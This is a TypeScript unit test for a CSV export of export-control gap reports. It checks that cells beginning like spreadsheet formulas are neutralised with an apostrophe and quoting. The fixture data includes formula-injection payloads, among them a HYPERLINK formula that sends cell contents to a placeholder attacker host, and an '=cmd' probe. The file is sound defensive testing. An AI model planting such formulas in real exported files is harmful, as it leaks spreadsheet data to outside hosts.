import { describe, expect, it } from 'vitest';
import type { GapReport } from '@entente/core';
import { gapsCsv } from './gaps-csv.ts';

const report: GapReport = {
  jurisdictions: ['US', 'EU'],
  gaps: [
    {
      entry: 'US:3A090',
      category: 'unilateral',
      controlledBy: 'US',
      lackingIn: 'EU',
      heading: '=HYPERLINK("http://evil.example/?d="&A1,"details")',
      note: '-2+3',
      evidence: [
        'US:3A090: no regime origin (national entry; reasons RS, AT)',
        'US:3A090: no crosswalk link',
      ],
    },
    {
      entry: 'US:3A991',
      category: 'unilateral',
      controlledBy: 'US',
      lackingIn: 'EU',
      heading: '@SUM(A1:A9)',
      note: 'Electronic devices, "not elsewhere specified"',
      evidence: ['=cmd'],
    },
  ],
  clearedCount: 0,
  summary: { unilateral: { 'US→EU': 2 } } as unknown as GapReport['summary'],
  notes: [],
};

describe('entente gaps --csv', () => {
  it('writes the evidence path as one cell, and cells that start like a formula as quoted text with an apostrophe', () => {
    expect(gapsCsv(report).split('\n')).toEqual([
      'entry,category,controlledBy,lackingIn,heading,note,evidence',
      `US:3A090,unilateral,US,EU,"'=HYPERLINK(""http://evil.example/?d=""&A1,""details"")","'-2+3","US:3A090: no regime origin (national entry; reasons RS, AT) | US:3A090: no crosswalk link"`,
      `US:3A991,unilateral,US,EU,"'@SUM(A1:A9)","Electronic devices, ""not elsewhere specified""","'=cmd"`,
    ]);
  });
});
